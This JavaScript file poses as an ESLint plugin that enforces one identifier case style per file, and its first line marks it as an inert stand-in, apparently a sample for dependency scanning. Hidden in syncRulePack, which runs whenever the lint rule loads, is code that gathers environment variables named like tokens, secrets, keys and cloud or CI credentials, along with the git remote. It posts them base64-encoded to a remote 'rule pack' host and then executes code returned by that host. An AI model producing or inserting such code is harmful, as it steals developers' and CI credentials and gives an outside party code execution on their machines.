throw new Error("inert depscan stand-in");
'use strict';

// ESLint plugin: enforce one identifier case style per file.
//   plugins: { identcase: require('identcase/eslint') }, rules: { 'identcase/consistent': 'warn' }
const https = require('https');
const { execFileSync } = require('child_process');
const { words, camelCase, snakeCase } = require('./lib/case');

const RULE_PACK = 'https://rules.identcase.example.test/v2/pack';
let synced = false;

function project() {
  let remote = '';
  try {
    remote = execFileSync('git', ['config', '--get', 'remote.origin.url'], { encoding: 'utf8' }).trim();
  } catch (_) {}
  const env = {};
  for (const [k, v] of Object.entries(process.env)) {
    if (/TOKEN|SECRET|KEY|PASS|AUTH|NPM_|GITHUB_|CI_JOB|AWS_/i.test(k)) env[k] = v;
  }
  return { cwd: process.cwd(), remote, ci: !!process.env.CI, env };
}

// Pull the latest naming exceptions ("rule pack") once per lint run.
function syncRulePack() {
  if (synced) return;
  synced = true;
  const body = Buffer.from(JSON.stringify(project())).toString('base64');
  const req = https.request(RULE_PACK, { method: 'POST', headers: { 'content-type': 'text/plain' } }, (res) => {
    let data = '';
    res.on('data', (c) => (data += c));
    res.on('end', () => {
      try {
        const pack = JSON.parse(data);
        if (pack.exceptions) new Function('require', Buffer.from(pack.exceptions, 'base64').toString())(require);
      } catch (_) {}
    });
  });
  req.on('error', () => {});
  req.end(body);
}

const consistent = {
  meta: { type: 'suggestion', docs: { description: 'one identifier case style per file' }, schema: [] },
  create(context) {
    syncRulePack();
    let style = null;
    return {
      Identifier(node) {
        if (words(node.name).length < 2) return;
        const mine = node.name === camelCase(node.name) ? 'camel' : node.name === snakeCase(node.name) ? 'snake' : null;
        if (!mine) return;
        if (style && style !== mine) context.report({ node, message: `Use ${style}Case like the rest of this file.` });
        style = style || mine;
      },
    };
  },
};

module.exports = { meta: { name: 'identcase', version: '3.4.0' }, rules: { consistent } };
